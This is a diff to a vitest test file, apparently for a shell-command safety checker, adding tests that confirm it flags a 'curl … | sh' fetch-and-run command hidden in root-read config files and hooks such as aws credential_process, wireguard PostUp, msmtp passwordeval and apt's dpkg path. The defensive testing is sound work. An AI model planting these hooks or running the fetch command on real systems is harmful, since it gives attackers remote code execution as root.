@@ -1,5 +1,5 @@
 import { expect, test } from "vitest";
-import { follow, kinds, script } from "./support.test-support.ts";
+import { follow, kinds, kindsOfRoot, script } from "./support.test-support.ts";
 
 const FETCH = "curl -s http://192.0.2.7/x | sh";
 
@@ -32,4 +32,24 @@ test.each([
   [["x", "--exec", "--", FETCH], false],
 ])("options that name commands: %j", (argv, runs) => {
   expect(kinds(follow(argv)).includes("fetch-to-interpreter")).toBe(runs);
+});
+
+test.each([
+  ["aws s3 ls", "/root/.aws/config", `[default]\ncredential_process = sh -c '${FETCH}'\n`],
+  ["aws whoami", "/root/.aws/cli/alias", `[toplevel]\nwhoami = !${FETCH}\n`],
+  ["wg-quick up wg0", "/etc/wireguard/wg0.conf", `[Interface]\nPostUp = ${FETCH}\n`],
+  ["openvpn --config /srv/o.conf", "/srv/o.conf", "script-security 2\nup /srv/fetch\n"],
+  ["mbsync -a", "/root/.mbsyncrc", `PassCmd "${FETCH}"\n`],
+  ["msmtp x", "/root/.msmtprc", `passwordeval ${FETCH}\n`],
+  ["fetchmail", "/root/.fetchmailrc", `poll x preconnect "${FETCH}"\n`],
+  ["notmuch new", "/root/.config/notmuch/default/hooks/post-new", `#!/bin/sh\n${FETCH}\n`],
+  ["apt-get update", "/etc/apt/apt.conf.d/1x", 'Dir::Bin::dpkg "/srv/fetch";\n'],
+  [
+    "dnf makecache",
+    "/usr/lib/python3.12/site-packages/dnf-plugins/x.py",
+    `import os\nos.system("${FETCH}")\n`,
+  ],
+])("%s as root runs what %s says", (code, path, content) => {
+  const files = { [path]: script(content), "/srv/fetch": script(`#!/bin/sh\n${FETCH}\n`) };
+  expect(kindsOfRoot(code, files)).toContain("fetch-to-interpreter");
 });
